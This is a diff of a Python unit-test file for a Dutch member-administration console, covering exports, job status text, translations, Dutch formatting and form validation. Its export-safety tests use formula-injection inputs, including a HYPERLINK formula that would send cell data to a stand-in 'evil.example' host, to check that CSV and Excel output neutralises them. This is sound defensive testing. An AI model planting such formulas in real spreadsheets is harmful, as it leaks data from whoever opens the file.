@@ -2,12 +2,16 @@
 
 from __future__ import annotations
 
+import ast
+import csv
 import io
 import json
+import re
 import threading
 from collections.abc import Iterator
 from datetime import date
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
 from typing import Any
 
 import boto3
@@ -21,10 +25,13 @@ from moto import mock_aws
 
 from backend.local.seed import generate_members
 from console import exports_view as ev
-from console import jobs_view, ops_view
+from console import formats, i18n, jobs_view, members_view, ops_view
+from console import member_model as mm
 from console.api_client import ApiClient, ApiError
 from console.auth import CognitoLogin, CognitoSettings, LoginError, Tokens, groups_from_token
-from console.record_form import payload
+from console.i18n import language
+from console.record_form import member_body, member_display_value, payload
+from console.record_page import RECORD_TEXTS
 from console.roles import pages_for
 
 pytestmark = pytest.mark.unit
@@ -269,7 +276,7 @@ def test_compare_finds_joined_left_and_changed_members(export_frame: pd.DataFram
     assert list(diff.joined["lidnummer"]) == [1001]
     assert list(diff.status_changed["lidnummer"]) == [2]
     assert list(diff.region_changed["lidnummer"]) == [3]
-    assert diff.summary == {"nieuw": 1, "vertrokken": 1, "status gewijzigd": 1, "regio gewijzigd": 1}
+    assert diff.summary == {"joined": 1, "left": 1, "status": 1, "regio": 1}
 
 
 def test_jubilarissen_are_active_members_reaching_10_25_or_40_years(export_frame: pd.DataFrame) -> None:
@@ -284,14 +291,16 @@ def test_jubilarissen_are_active_members_reaching_10_25_or_40_years(export_frame
     assert len(jub) == len(expected)
 
 
-def test_downloads_hold_the_filtered_rows(export_frame: pd.DataFrame) -> None:
+def test_downloads_hold_the_filtered_rows_and_chosen_columns(export_frame: pd.DataFrame) -> None:
     view = ev.apply_filters(export_frame, ev.Filters(regios=("Friesland",)))
-    csv = pd.read_csv(io.BytesIO(ev.csv_bytes(view)), encoding="utf-8-sig")
-    assert len(csv) == len(view) and ev.SEARCH_COLUMN not in csv.columns
-    xlsx = pd.read_excel(io.BytesIO(ev.excel_bytes(view)))
-    assert len(xlsx) == len(view) and set(xlsx["regio"]) == {"Friesland"}
-    parquet = pd.read_parquet(io.BytesIO(ev.parquet_bytes(view)))
-    assert list(parquet["lidnummer"]) == list(view["lidnummer"])
+    columns = ["lidnummer", "achternaam", "regio", "ingangsdatum"]
+    csv = pd.read_csv(io.BytesIO(ev.csv_bytes(view, columns)), encoding="utf-8-sig", sep=";")
+    assert len(csv) == len(view) and list(csv.columns) == ["Lidnummer", "Achternaam", "Regio", "Ingangsdatum"]
+    xlsx = pd.read_excel(io.BytesIO(ev.excel_bytes(view, columns)))
+    assert len(xlsx) == len(view) and set(xlsx["Regio"]) == {"Friesland"}
+    assert list(xlsx.columns) == list(csv.columns)
+    parquet = pd.read_parquet(io.BytesIO(ev.parquet_bytes(view, columns)))
+    assert list(parquet["lidnummer"]) == list(view["lidnummer"]) and list(parquet.columns) == columns
 
 
 def test_export_age_reads_for_people() -> None:
@@ -299,38 +308,51 @@ def test_export_age_reads_for_people() -> None:
 
     now = datetime(2026, 11, 25, 12, 0, tzinfo=UTC)
     assert ev.age_text("2026-11-25T11:50:00+00:00", now) == "10 min"
-    assert ev.age_text("2026-11-25T07:00:00Z", now) == "5 h"
-    assert ev.age_text("2026-11-20T12:00:00+00:00", now) == "5 days"
-    assert ev.age_text(None, now) == "unknown"
+    assert ev.age_text("2026-11-25T07:00:00Z", now) == "5 uur"
+    assert ev.age_text("2026-11-20T12:00:00+00:00", now) == "5 dagen"
+    assert ev.age_text(None, now) == "onbekend"
+    with language("en"):
+        assert ev.age_text("2026-11-20T12:00:00+00:00", now) == "5 days"
     assert ev.ages(pd.DataFrame({"geboortedatum": ["2000-12-01"]}), date(2026, 11, 25)).tolist() == [25]
 
 
 # ---------------------------------------------------------------------------- jobs, ops, forms
 def test_job_status_lines() -> None:
-    running = jobs_view.job_status({"job_id": "j", "state": "running", "rows": None, "rows_so_far": 1200})
-    assert running.state == "running" and "1,200 rows so far" in running.detail and not running.finished
-    done = jobs_view.job_status(
-        {"job_id": "j", "state": "succeeded", "rows": 300, "bytes": 2048, "duration_seconds": 1.5}
+    from datetime import UTC, datetime
+
+    now = datetime(2026, 11, 25, 10, 0, 15, tzinfo=UTC)
+    queued = jobs_view.job_status(
+        {"job_id": "j", "state": "queued", "created_at": "2026-11-25T10:00:00Z"}, now
     )
-    assert done.finished and done.state == "complete" and done.detail == "300 rows, 2.0 KB in 1.5 s"
+    assert queued.state == "running" and not queued.finished  # never a tick while it waits
+    assert queued.detail == "Bezig sinds 15 s · 0 leden verwerkt"
+    running = jobs_view.job_status(
+        {"job_id": "j", "state": "running", "rows_so_far": 1200, "created_at": "2026-11-25T09:58:00Z"}, now
+    )
+    assert running.detail == "Bezig sinds 2 min 15 s · 1.200 leden verwerkt"
+    done = jobs_view.job_status(
+        {"job_id": "j", "state": "succeeded", "rows": 3001, "bytes": 2048, "duration_seconds": 12.4}
+    )
+    assert done.finished and done.state == "complete" and done.detail == "3.001 leden, 2 KB, gemaakt in 12 s."
     failed = jobs_view.job_status({"job_id": "j", "state": "failed", "error": "scan throttled"})
     assert failed.state == "error" and failed.error == "scan throttled"
     assert jobs_view.running_job_id({"running_job": {"job_id": "r1"}}) == "r1"
-    rows = jobs_view.history_rows(
-        {
-            "jobs": [
-                {
-                    "job_id": "j",
-                    "requested_by": "staff",
-                    "started_at": "2026-11-25T10:00:00+00:00",
-                    "finished_at": "2026-11-25T10:00:30+00:00",
-                    "rows": 5,
-                    "bytes": 10,
-                }
-            ]
-        }
+    job = {
+        "job_id": "j",
+        "state": "succeeded",
+        "requested_by": "staff",
+        "created_at": "2026-11-25T10:00:00+00:00",
+        "started_at": "2026-11-25T10:00:00+00:00",
+        "finished_at": "2026-11-25T10:00:30+00:00",
+        "rows": 2001,
+        "options": {"regio": "Utrecht", "active_only": True, "anonymize": True},
+    }
+    # The history reads as a sentence: local time, who, every option in full, rows, duration
+    assert jobs_view.history_sentence(job) == (
+        "25-11-2026 11:00: staff maakte een export (regio Utrecht, alleen actieve leden, geanonimiseerd)"
+        " van 2.001 leden in 30 s. ✓"
     )
-    assert rows[0]["duration_s"] == 30.0 and rows[0]["requested_by"] == "staff"
+    assert "✓" not in jobs_view.history_sentence({**job, "state": "running"})
 
 
 def test_health_checks_sorted_failures_first_and_statuses_normalised() -> None:
@@ -354,3 +376,292 @@ def test_update_payload_sends_only_changed_client_fields() -> None:
     entered = {"member_id": "m", "version": 3, "voornaam": "Anna ", "notities": "", "bouwjaar": 2002}
     assert payload(entered, original) == {"bouwjaar": 2002}
     assert payload({"voornaam": "Jan", "tussenvoegsel": ""}) == {"voornaam": "Jan"}
+
+
+# ---------------------------------------------------------------------------- message catalogue
+CONSOLE = Path(__file__).resolve().parents[2] / "console"
+NOT_UI = ("cli.py", "ops_cmd.py", "image_cmd.py")  # the command line speaks English to operators
+PLACEHOLDER = re.compile(r"{(\w*)}")
+
+
+def used_message_ids() -> set[str]:
+    """Every message id the console's code names: literal arguments of `t()`/`N_()`, the record
+    kinds' texts and the field labels (keyed by the catalogue's field names)."""
+    ids: set[str] = set()
+    for path in CONSOLE.rglob("*.py"):
+        if path.name in NOT_UI:
+            continue
+        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
+            if not (isinstance(node, ast.Call) and node.args):
+                continue
+            name = getattr(node.func, "id", None) or getattr(node.func, "attr", None)
+            first = node.args[0]
+            if name in ("t", "N_") and isinstance(first, ast.Constant) and isinstance(first.value, str):
+                ids.add(first.value)
+    ids |= {f"{kind}.{text}" for kind in ("member", "product") for text in RECORD_TEXTS}
+    ids |= {f"field.{f.name}" for f in mm.FIELDS} | {f"field.{c}" for c in mm.COMPUTED_COLUMNS}
+    return ids
+
+
+@pytest.mark.parametrize("lang", i18n.LANGUAGES)
+def test_every_message_id_used_is_translated(lang: str) -> None:
+    # GIVEN the ids the code uses WHEN looked up in the catalogue THEN each has a non-empty text
+    catalogue = i18n.catalogue_messages(lang)
+    used = used_message_ids()
+    assert len(used) > 250  # the scan found the code's ids (an empty scan would pass vacuously)
+    missing = sorted(m for m in used if not catalogue.get(m, "").strip())
+    assert not missing, f"not translated in {lang}: {missing}"
+    # AND the catalogue holds no id the code no longer uses (dead texts mislead translators)
+    assert sorted(set(catalogue) - used) == []
+
+
+def test_dutch_and_english_texts_take_the_same_placeholders() -> None:
+    nl, en = i18n.catalogue_messages("nl"), i18n.catalogue_messages("en")
+    assert set(nl) == set(en)
+    for msgid in nl:
+        assert set(PLACEHOLDER.findall(nl[msgid])) == set(PLACEHOLDER.findall(en[msgid])), msgid
+
+
+def test_every_catalogue_field_has_a_label_that_is_not_its_key() -> None:
+    for spec in mm.FIELDS:
+        for lang in i18n.LANGUAGES:
+            with language(lang):
+                shown = mm.label(spec.name)
+            assert shown and shown != spec.name, (lang, spec.name)
+    assert (
+        mm.label("lid_sinds") == mm.label("ingangsdatum") == "Ingangsdatum"
+    )  # the legacy name reads as the new
+
+
+def test_the_region_list_is_the_field_catalogue_s() -> None:
+    from console.roles import REGIONS
+
+    assert mm.FIELD_BY_NAME["regio"].vocabulary == REGIONS
+
+
+# ---------------------------------------------------------------------------- Dutch formats
+def test_numbers_money_dates_and_times_in_dutch_form() -> None:
+    from datetime import datetime
+
+    assert formats.number(2001) == "2.001"
+    assert formats.euros(650) == "€\xa06,50"  # a no-break space keeps the sign with its amount
+    assert formats.day("1986-10-01") == "01-10-1986"
+    assert formats.day(date(1986, 10, 1)) == "01-10-1986"
+    assert formats.day("12-3-1985") == "12-03-1985"
+    assert formats.day("NA") == "NA"  # not a date: shown as stored
+    # a UTC time with microseconds reads in Amsterdam time, to the minute (summer and winter)
+    assert formats.moment("2026-11-25T10:00:05.123456+00:00") == "25-11-2026 11:00"
+    assert formats.moment("2026-07-01T10:00:00") == "01-07-2026 12:00"
+    assert formats.moment(datetime(2026, 11, 25, 10, 0)) == "25-11-2026 11:00"
+
+
+# ---------------------------------------------------------------------------- safe files
+HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2,"Klik hier")'
+
+
+def hostile_frame() -> pd.DataFrame:
+    return pd.DataFrame(
+        {
+            "lidnummer": [1, 2, 3],
+            "voornaam": ["=1+1", "+31 6 1234", HOSTILE],
+            "achternaam": ["@SUM(A1)", "-2+3", "\tTab"],
+            "woonplaats": ["\rCR", None, "Zeist"],
+            "bouwjaar": [2003.0, float("nan"), 1999.0],
+            "ingangsdatum": pd.to_datetime(["2001-02-03", None, "2010-10-10"]),
+            "nieuwsbrief": [True, False, True],
+        }
+    )
+
+
+def test_csv_is_dutch_excel_ready_and_carries_no_formula() -> None:
+    # GIVEN members whose names start like formulas WHEN written as CSV
+    data = ev.csv_bytes(hostile_frame())
+    # THEN UTF-8 with a BOM, `;`-separated, headers are labels, and no cell starts a formula
+    assert data.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
+    assert rows[0] == [
+        "Lidnummer",
+        "Voornaam",
+        "Achternaam",
+        "Woonplaats",
+        "Bouwjaar",
+        "Ingangsdatum",
+        "Nieuwsbrief",
+    ]
+    assert rows[1] == ["1", "'=1+1", "'@SUM(A1)", "'\rCR", "2003", "03-02-2001", "Ja"]
+    assert rows[2] == ["2", "'+31 6 1234", "'-2+3", "", "", "", "Nee"]
+    assert rows[3][1] == "'" + HOSTILE and rows[3][2] == "'\tTab" and rows[3][5] == "10-10-2010"
+    text = data.decode("utf-8-sig")
+    assert "None" not in text and "nan" not in text and "2003.0" not in text
+    for row in rows[1:]:
+        assert not any(cell.startswith(tuple("=+-@\t\r")) for cell in row), row
+
+
+def test_excel_has_real_dates_and_text_cells_never_formulas() -> None:
+    from openpyxl import load_workbook
+
+    book = load_workbook(io.BytesIO(ev.excel_bytes(hostile_frame())))
+    sheet = book.active
+    assert [c.value for c in sheet[1]][:3] == ["Lidnummer", "Voornaam", "Achternaam"]
+    name = sheet.cell(row=2, column=2)
+    assert name.value == "'=1+1" and name.data_type == "s"
+    link = sheet.cell(row=4, column=2)
+    assert link.value == "'" + HOSTILE and link.data_type == "s"
+    for row in sheet.iter_rows(min_row=2):
+        assert all(c.data_type != "f" for c in row)
+    joined = sheet.cell(row=2, column=6)
+    assert joined.is_date and joined.number_format == "DD-MM-YYYY"
+    assert sheet.cell(row=2, column=5).value == 2003 and isinstance(sheet.cell(row=2, column=5).value, int)
+    assert sheet.cell(row=3, column=5).value is None  # no "nan" cell
+
+
+def test_markdown_in_user_text_is_made_inert() -> None:
+    shown = formats.md_escape("![x](http://example.invalid/x.png)")
+    assert "![" not in shown and "](" not in shown
+    assert shown.replace("\\", "") == "![x](http://example.invalid/x.png)"
+    assert formats.md_escape(":red[boo] :material/home:").count("\\:") == 3
+
+
+# ---------------------------------------------------------------------------- member form and validation
+def test_every_problem_of_a_new_member_is_found_at_once_in_dutch() -> None:
+    # GIVEN a new member with a bad postcode, email, date, IBAN and bouwjaar and no achternaam
+    entered = {
+        "voornaam": "Anna",
+        "achternaam": "",
+        "email": "geen-adres",
+        "postcode": "12345",
+        "land": "Nederland",
+        "geboortedatum": "31-02-1990",
+        "bankrekeningnummer": "NL00 XXXX",
+        "bouwjaar": 1800,
+        "regio": "Utrecht",
+        "ingangsdatum": "1-2-2020",
+        "nieuwsbrief": "Ja",
+    }
+    body, errors = member_body(entered, None)
+    # THEN all six are reported together, each in Dutch, by field
+    assert errors == {
+        "achternaam": "Vul dit veld in.",
+        "email": "Geen geldig e-mailadres.",
+        "postcode": "Geen geldige Nederlandse postcode (zoals 1234 AB).",
+        "geboortedatum": "Geen geldige datum; gebruik d-m-jjjj, bijvoorbeeld 12-3-1985.",
+        "bankrekeningnummer": "Geen geldig IBAN (bijvoorbeeld NL91 ABNA 0417 1643 00).",
+        "bouwjaar": "Vul een getal tussen 1900 en 2100 in.",
+    }
+    # AND what is valid goes in the stored form: ISO date, Ja/Nee under the club's names
+    assert body["ingangsdatum"] == "2020-02-01" and body["nieuwsbrief"] == "Ja"
+
+
+def test_an_update_sends_only_what_changed_and_keeps_legacy_values_nobody_touched() -> None:
+    stored = {
+        "member_id": "m",
+        "version": 4,
+        "voornaam": "Jan",
+        "achternaam": "Smit",
+        "email": "jan@example.org",
+        "regio": "Utrecht",
+        "geboortedatum": "12-3-1985",  # the spreadsheet's form
+        "lid_sinds": "2001-02-03",  # the old API's name
+        "bouwjaar": "NA",
+        "postcode": "12345",  # not a Dutch postcode, stored long ago: kept while nobody edits it
+        "nieuwsbrief": True,  # the old API's boolean
+    }
+    # the form starts from the stored values as shown (d-m-jjjj, Ja/Nee); nothing is changed
+    start = {s.name: member_display_value(s, mm.normalise_record(stored).get(s.name)) for s in mm.FORM_FIELDS}
+    assert start["geboortedatum"] == "12-3-1985" and start["ingangsdatum"] == "3-2-2001"
+    assert start["nieuwsbrief"] == "Ja" and start["bouwjaar"] is None  # "NA" reads as unknown
+    assert member_body(start, stored) == ({}, {})
+    # WHEN only the ingangsdatum changes THEN only it goes, under its new name and in ISO form
+    assert member_body({**start, "ingangsdatum": "4-2-2001"}, stored) == ({"ingangsdatum": "2001-02-04"}, {})
+
+
+def test_a_422_becomes_one_dutch_message_per_field() -> None:
+    details = [
+        {"loc": ["body", "email"], "msg": "value is not a valid email", "type": "value_error"},
+        {
+            "loc": ["body", "telefoon"],
+            "msg": "String should match pattern '^...'",
+            "type": "string_pattern_mismatch",
+        },
+        {
+            "loc": ["body", "lid_sinds"],
+            "msg": "Input should be a valid date",
+            "type": "date_from_datetime_parsing",
+        },
+        {"loc": ["body", "regio"], "msg": "Input should be 'Utrecht', ...", "type": "enum"},
+        {"loc": ["body"], "msg": "Value error, something", "type": "value_error"},
+    ]
+    errors = mm.api_field_errors(details)
+    assert errors == {
+        "email": "Geen geldig e-mailadres.",
+        "telefoon": "Bevat tekens die hier niet zijn toegestaan.",
+        "ingangsdatum": "Geen geldige datum; gebruik d-m-jjjj, bijvoorbeeld 12-3-1985.",
+        "regio": "Kies een waarde uit de lijst.",
+        "": "Deze waarde wordt niet geaccepteerd.",
+    }
+    assert not any("Value error" in m or "^" in m for m in errors.values())
+
+
+def test_values_outside_the_catalogue_are_flagged_from_the_api_or_read_here() -> None:
+    # the API's problems list is used as it is (legacy names mapped)
+    flagged = mm.problem_fields(
+        {"problems": [{"field": "lid_sinds", "state": "invalid"}], "lid_sinds": "ooit"}
+    )
+    assert flagged == {"ingangsdatum": "invalid"}
+    # without it, the console reads the values with the same catalogue
+    legacy = {"geboortedatum": "31-02-1990", "status": "Weg", "bouwjaar": "NA", "postcode": "1234 AB"}
+    assert mm.problem_fields(legacy) == {"geboortedatum": "invalid", "status": "invalid"}
+
+
+def test_member_pages_are_even_and_hold_every_match() -> None:
+    rows = [{"member_id": str(i), "lidnummer": i} for i in range(1, 48)]
+    assert members_view.page_count(47, 25) == 2 and members_view.page_count(0, 25) == 1
+    assert [len(members_view.page_of(rows, p, 25)) for p in (1, 2)] == [25, 22]
+    table = members_view.table_rows([{"lidnummer": "NA", "voornaam": "X", "geboortedatum": "31-02-1990"}])
+    assert table[0]["lidnummer"] == "" and table[0][members_view.PROBLEMS_COLUMN] == "Geboortedatum"
+
+
+# ---------------------------------------------------------------------------- ops
+def test_health_takes_the_console_s_own_endpoint_checks_where_the_api_could_not_run_them() -> None:
+    checks = ops_view.health_checks(
+        {
+            "checks": [
+                {
+                    "id": "endpoint_health",
+                    "status": "not_applicable",
+                    "detail": "give `hdcn health --api-url`",
+                },
+                {"id": "generator_image_manifest", "status": "not_applicable", "detail": "no ECR locally"},
+                {"id": "stack_status", "status": "pass", "detail": "CREATE_COMPLETE"},
+            ]
+        }
+    )
+    own = {"endpoint_health": ops_view.endpoint_check("endpoint_health", "/health", 200)}
+    merged = ops_view.with_console_endpoint_checks(checks, own)
+    assert ops_view.count_statuses(merged) == {"pass": 2, "not_applicable": 1}
+    assert not any("--api-url" in c.detail for c in merged)
+    tone, sentence = ops_view.health_sentence(merged)
+    assert tone == "good" and sentence.startswith("Alle controles in orde")
+
+
+def test_stack_summary_counts_statuses_failures_first() -> None:
+    rows = [{"status": "CREATE_COMPLETE"}] * 3 + [
+        {"status": "CREATE_FAILED"},
+        {"status": "UPDATE_IN_PROGRESS"},
+    ]
+    counts = ops_view.resource_counts(rows)
+    assert [c["status"] for c in counts] == ["CREATE_FAILED", "UPDATE_IN_PROGRESS", "CREATE_COMPLETE"]
+    assert counts[-1]["count"] == 3
+    assert ops_view.failures_first(rows)[0]["status"] == "CREATE_FAILED"
+
+
+def test_csv_times_are_amsterdam_local_to_the_minute() -> None:
+    frame = pd.DataFrame(
+        {
+            "updated_at": pd.to_datetime(["2026-11-25T10:00:05.123456Z", None], utc=True),
+            "created_at": pd.to_datetime(["2026-07-01T10:00:00", "2026-07-01T10:30:00"]),  # naive: UTC
+        }
+    )
+    rows = list(csv.reader(io.StringIO(ev.csv_bytes(frame).decode("utf-8-sig")), delimiter=";"))
+    assert rows[0] == ["Gewijzigd op", "Aangemaakt op"]
+    assert rows[1:] == [["25-11-2026 11:00", "01-07-2026 12:00"], ["", "01-07-2026 12:30"]]
